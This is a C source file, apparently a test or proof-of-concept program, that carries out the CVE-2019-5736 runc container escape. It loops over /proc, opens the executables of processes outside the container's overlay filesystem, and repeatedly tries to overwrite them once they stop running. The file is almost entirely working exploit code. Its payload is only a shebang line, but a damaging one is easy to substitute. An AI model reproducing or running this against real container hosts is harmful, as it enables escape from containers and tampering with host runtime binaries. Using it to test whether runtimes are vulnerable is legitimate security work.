// CVE-2019-5736: for some seconds, opens the executable of every other process it can see and tries to write to it.
// Usage: overwrite-exe SECONDS [FILE...]. The FILEs are the container's own programs. Prints "opened NAME" for each file opened
// for writing, "overwritten NAME" for each success, "done" at the end.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <linux/magic.h>
#include <sys/stat.h>
#include <sys/vfs.h>
#include <time.h>
#include <unistd.h>

static int owned;
static struct stat own[16];

static int is_own(const struct stat *found) {
  for (int i = 0; i < owned; i++)
    if (found->st_ino == own[i].st_ino && found->st_dev == own[i].st_dev) return 1;
  return 0;
}

static void attack(const char *pid) {
  char path[300], link[256];
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  int held = open(path, O_PATH);
  if (held < 0) return;
  struct stat found;
  struct statfs system;
  char again[64];
  snprintf(again, sizeof again, "/proc/self/fd/%d", held);
  // of what is held: the process may have executed something else since
  ssize_t length = readlink(again, link, sizeof link - 1);
  // Files of the container's own overlay are its to overwrite; the runtime's lie elsewhere.
  if (fstatfs(held, &system) == 0 && system.f_type != OVERLAYFS_SUPER_MAGIC && fstat(held, &found) == 0 && !is_own(&found)) {
    link[length > 0 ? length : 0] = 0;
    // The process has to end before its file can be written (ETXTBSY), so the attack keeps asking for a while.
    for (int attempt = 0; attempt < 2000; attempt++) {
      int file = open(again, O_WRONLY);
      if (file >= 0) {
        printf("opened %s\n", link);
        if (write(file, "#!/bin/sh\n", 10) == 10) printf("overwritten %s\n", link);
        close(file);
        break;
      }
      if (errno != ETXTBSY) break;
      usleep(100);
    }
  }
  close(held);
}

static double seconds(void) {
  struct timespec now;
  clock_gettime(CLOCK_MONOTONIC, &now);
  return (double)now.tv_sec + (double)now.tv_nsec / 1e9;
}

int main(int argc, char **argv) {
  if (argc < 2 || argc > 16 || stat("/proc/self/exe", &own[owned++]) != 0) return 2;
  for (int i = 2; i < argc; i++)
    if (stat(argv[i], &own[owned++]) != 0) return 2;
  puts("up");
  fflush(stdout);
  double end = seconds() + atoi(argv[1]);
  while (seconds() < end) {
    DIR *proc = opendir("/proc");
    if (!proc) return 2;
    for (struct dirent *entry = readdir(proc); entry; entry = readdir(proc))
      if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9') attack(entry->d_name);
    closedir(proc);
  }
  puts("done");
  return 0;
}
